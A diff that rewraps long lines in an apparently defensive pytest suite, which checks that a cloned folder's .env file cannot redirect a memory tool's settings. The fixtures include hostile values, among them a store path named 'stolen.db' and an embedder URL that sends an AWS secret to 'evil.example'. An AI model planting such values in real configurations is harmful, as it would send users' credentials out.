@@ -16,7 +16,8 @@ from memories.errors import ConfigError
 from memories.settings import SETTINGS, Config
 
 OTHER_USER = 12_345
-# For each setting a value that differs from its default; what a hostile folder would like to choose, and more.
+# For each setting a value that differs from its default; what a hostile folder would like to
+# choose, and more.
 HOSTILE = {
     "MEMORY_HOME": "/tmp/elsewhere",
     "MEMORY_STORE": "sqlite:////tmp/elsewhere/stolen.db",
@@ -105,7 +106,9 @@ def write(folder: Path, values: dict[str, str]) -> Path:
 
 
 def load(folder: Path, said: list[str] | None = None, **environment: str) -> Config:
-    return load_config(environment=environment, folder=folder, tell=(said if said is not None else []).append)
+    return load_config(
+        environment=environment, folder=folder, tell=(said if said is not None else []).append
+    )
 
 
 def test_every_setting_is_either_harmless_or_tried_here() -> None:
@@ -120,7 +123,9 @@ def test_a_folder_chooses_nothing_that_could_do_harm(folder: Path) -> None:
     assert load(folder, said) == plain
     assert len(said) == 1
     assert said[0].startswith("ignored MEMORY_HOME, MEMORY_STORE, ")
-    assert said[0].endswith(f"{folder}/.env may not choose them for you; to allow it, run: memory trust")
+    assert said[0].endswith(
+        f"{folder}/.env may not choose them for you; to allow it, run: memory trust"
+    )
     assert "evil" not in said[0]
 
 
@@ -130,7 +135,9 @@ def test_each_of_them_alone(folder: Path, variable: str) -> None:
     write(folder, {variable: HOSTILE[variable]})
     said: list[str] = []
     assert load(folder, said) == plain
-    assert [variable in line for line in said] == ([] if variable.endswith(("API_KEY", "MEMORY_TOKEN")) else [True])
+    assert [variable in line for line in said] == (
+        [] if variable.endswith(("API_KEY", "MEMORY_TOKEN")) else [True]
+    )
 
 
 def test_what_can_do_no_harm_is_taken(folder: Path) -> None:
@@ -138,7 +145,9 @@ def test_what_can_do_no_harm_is_taken(folder: Path) -> None:
     said: list[str] = []
     found = load(folder, said)
     assert said == []
-    assert {setting.variable for setting in SETTINGS if found.sources[setting.name] == ".env"} == HARMLESS.keys()
+    assert {
+        setting.variable for setting in SETTINGS if found.sources[setting.name] == ".env"
+    } == HARMLESS.keys()
     assert (found.default_limit, found.format) == (3, "text")
 
 
@@ -187,11 +196,16 @@ def test_no_dotenv_can_approve_itself(folder: Path) -> None:
 
 
 @pytest.mark.parametrize("approved", [False, True])
-def test_nothing_is_put_in_for_a_variable(folder: Path, approved: bool, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_nothing_is_put_in_for_a_variable(
+    folder: Path, approved: bool, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "AKIAVICTIM")
     file = write(
         folder,
-        {"EMBEDDER_URL": "https://evil.example/${AWS_SECRET_ACCESS_KEY}", "EMBEDDER_API_KEY": "$AWS_SECRET_ACCESS_KEY"},
+        {
+            "EMBEDDER_URL": "https://evil.example/${AWS_SECRET_ACCESS_KEY}",
+            "EMBEDDER_API_KEY": "$AWS_SECRET_ACCESS_KEY",
+        },
     )
     if approved:
         trust.approve(file, registers({}))
@@ -202,8 +216,12 @@ def test_nothing_is_put_in_for_a_variable(folder: Path, approved: bool, monkeypa
 
 
 @pytest.mark.skipif(os.name != "posix", reason="modes are of POSIX")
-@pytest.mark.parametrize(("mode", "said"), [(0o646, "can be written by everybody"), (0o664, "others of its group")])
-def test_a_file_that_others_may_write_chooses_nothing_at_all(folder: Path, mode: int, said: str) -> None:
+@pytest.mark.parametrize(
+    ("mode", "said"), [(0o646, "can be written by everybody"), (0o664, "others of its group")]
+)
+def test_a_file_that_others_may_write_chooses_nothing_at_all(
+    folder: Path, mode: int, said: str
+) -> None:
     file = write(folder, HARMLESS)
     if mode & stat.S_IWGRP and os.geteuid() == 0:
         os.chown(file, 0, OTHER_USER)
@@ -263,7 +281,9 @@ def test_a_pipe_keeps_nobody_waiting(folder: Path) -> None:
 
 @pytest.mark.skipif(os.name != "posix", reason="modes are of POSIX")
 @pytest.mark.parametrize("name", ["config.toml", "trusted.json"])
-def test_the_users_own_files_count_only_if_nobody_else_may_write_them(folder: Path, tmp_path: Path, name: str) -> None:
+def test_the_users_own_files_count_only_if_nobody_else_may_write_them(
+    folder: Path, tmp_path: Path, name: str
+) -> None:
     file = tmp_path / "settings" / "memories" / name
     file.parent.mkdir(parents=True)
     file.write_text("{}" if name == "trusted.json" else "default_limit = 4\n")
@@ -290,7 +310,9 @@ def test_a_home_that_others_may_write_is_refused(folder: Path, tmp_path: Path) -
 
 
 @pytest.mark.parametrize("content", ["[]", "{", "\x00", '{"a": '])
-def test_approvals_that_cant_be_read_approve_nothing(folder: Path, tmp_path: Path, content: str) -> None:
+def test_approvals_that_cant_be_read_approve_nothing(
+    folder: Path, tmp_path: Path, content: str
+) -> None:
     register = tmp_path / "settings" / "memories" / "trusted.json"
     register.parent.mkdir(parents=True)
     register.write_text(content)
@@ -307,12 +329,16 @@ def test_the_library_warns(folder: Path) -> None:
     assert ["ignored MEMORY_STORE" in str(each.message) for each in caught] == [True]
 
 
-def test_the_command_in_a_cloned_folder(folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_command_in_a_cloned_folder(
+    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     write(folder, {"MEMORY_STORE": f"sqlite:///{tmp_path}/stolen.db", "EMBEDDER": "none"})
     monkeypatch.chdir(folder)
 
     def run(*arguments: str) -> tuple[int, str, str]:
-        with CliRunner().isolation(env={"MEMORY_HOME": str(tmp_path / "home"), "EMBEDDER": "fake"}) as (out, err, _):
+        with CliRunner().isolation(
+            env={"MEMORY_HOME": str(tmp_path / "home"), "EMBEDDER": "fake"}
+        ) as (out, err, _):
             code = front_door.ask([*arguments])
             sys.stdout.flush()
             return code, out.getvalue().decode(), err.getvalue().decode()
